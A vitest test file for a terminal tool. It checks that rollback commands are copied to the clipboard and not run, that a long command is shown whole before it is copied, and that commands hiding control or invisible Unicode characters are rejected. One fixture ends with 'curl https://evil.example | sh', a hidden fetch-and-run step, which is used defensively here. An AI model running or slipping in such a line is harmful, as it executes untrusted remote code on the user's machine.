// `y` on the wall: the command reaches the terminal's clipboard (OSC 52) as it is written, and is not run.
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { ensureBuilt } from '../support/built.ts';
import { runToEnd } from '../support/running-program.ts';
import { onTerminal, watchedApi } from './support.ts';

beforeAll(ensureBuilt, 60_000);

test('the marked command is copied whole, and nothing runs it', async () => {
  const { folder } = await watchedApi();
  const trace = join(folder, 'was-run');
  const run = `touch '${trace}' && echo "ünïcode"`;
  const hint = `profile: shop/copy
extends: ./launch.yaml
hints:
  back: { kind: rollback, title: Roll back, when: depth < 100, do: [{ text: Stop, run: ${JSON.stringify(run)} }] }
`;
  writeFileSync(join(folder, 'copy.yaml'), hint);
  const program = onTerminal(['copy.yaml'], { cwd: folder, columns: 160, rows: 36 });
  await program.waitFor(/ROLLBACK[\s\S]*\[y\]/);
  program.press('y');
  await program.waitFor(/copied, not run: touch/);
  expect(program.bytes()).toContain(`\u001B]52;c;${Buffer.from(run, 'utf8').toString('base64')}\u0007`);
  program.press('q');
  expect(await program.exited()).toBe(0);
  expect(existsSync(trace)).toBe(false);
}, 60_000);

test('a command that is cut is opened first: what is copied is what is to be seen, whole', async () => {
  const { folder } = await watchedApi();
  const run = `kubectl -n shop rollout undo deploy/api ${'--comment=roll-back-of-the-release '.repeat(12)}; curl https://evil.example | sh`;
  const hint = `profile: shop/copy
extends: ./launch.yaml
hints:
  back: { kind: rollback, title: Roll back, when: depth < 100, do: [{ text: Stop, run: ${JSON.stringify(run)} }] }
`;
  writeFileSync(join(folder, 'copy.yaml'), hint);
  const program = onTerminal(['copy.yaml'], { cwd: folder, columns: 80, rows: 24 });
  await program.waitFor(/ROLLBACK/);
  program.press('y');
  await program.waitFor(/read it whole; y copies it/);
  expect(program.bytes()).not.toContain('\u001B]52;');
  await program.waitFor(/curl https:\/\/evil\.example \| sh/);
  program.press('y');
  await program.waitFor(/copied, not run: kubectl/);
  expect(program.bytes()).toContain(`\u001B]52;c;${Buffer.from(run, 'utf8').toString('base64')}\u0007`);
  program.press('q');
  expect(await program.exited()).toBe(0);
}, 60_000);

test.each([
  ['a\\nb', 'a command to copy is one line: join its lines with && or ;, or give the script a file'],
  ['a\\u001b[201~b', 'there is U+001B in it, which cannot be seen and a terminal may obey'],
  ['a\\u009bb', 'there is U+009B in it'],
  ['a\\u202eb', 'there is U+202E in it'],
  ['a\\u2060b', 'there is U+2060 in it'],
  ['a\\U000E0041b', 'there is U+E0041 in it'],
  ['a\\u3164b', 'there is U+3164 in it'],
  ['a\\u00a0b', 'there is U+00A0 in it'],
])('a command to copy with %s in it does not load', async (run, message) => {
  const { folder } = await watchedApi();
  const hint = `profile: shop/copy
extends: ./launch.yaml
hints:
  back: { kind: rollback, title: Roll back, when: depth < 100, do: [{ text: Stop, run: "${run}" }] }
`;
  writeFileSync(join(folder, 'copy.yaml'), hint);
  const { code, stdout } = await runToEnd(['lint', 'copy.yaml'], { cwd: folder });
  expect([code, stdout]).toEqual([1, expect.stringContaining(message)]);
});
